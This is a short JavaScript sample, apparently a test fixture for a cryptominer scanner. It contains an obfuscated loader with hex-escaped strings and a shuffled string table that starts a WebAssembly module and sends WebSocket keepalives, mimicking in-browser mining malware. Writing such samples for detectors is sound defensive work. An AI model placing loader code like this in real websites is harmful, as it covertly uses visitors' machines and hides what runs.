// Sample written for minerscan's tests: the same kind of loader from an obfuscator that keeps its
// string table readable but writes every entry as \x escapes, and starts the hashing in wasm.
var _0x3e21=['\x41\x6e\x6f\x6e\x79\x6d\x6f\x75\x73','\x6b\x65\x65\x70\x61\x6c\x69\x76\x65\x64','\x73\x65\x6e\x64','\x69\x6e\x73\x74\x61\x6e\x74\x69\x61\x74\x65','\x64\x61\x74\x61'];
(function(_0x1a,_0x5b){var _0x2c=function(_0x4d){while(--_0x4d){_0x1a['push'](_0x1a['shift']());}};_0x2c(++_0x5b);}(_0x3e21,0x7b));
var _0x41f0=function(_0x22){return _0x3e21[_0x22-0x0];};
(function(){var _0x6b=new WebSocket(self['location']['origin']['replace']('http','ws')+'/p');WebAssembly[_0x41f0('0x3')](self['__w'],{})['then'](function(_0x15){setInterval(function(){_0x6b[_0x41f0('0x2')](JSON['stringify']({'type':_0x41f0('0x1')}));},0x7530);self[_0x41f0('0x0')]=_0x15;});}());
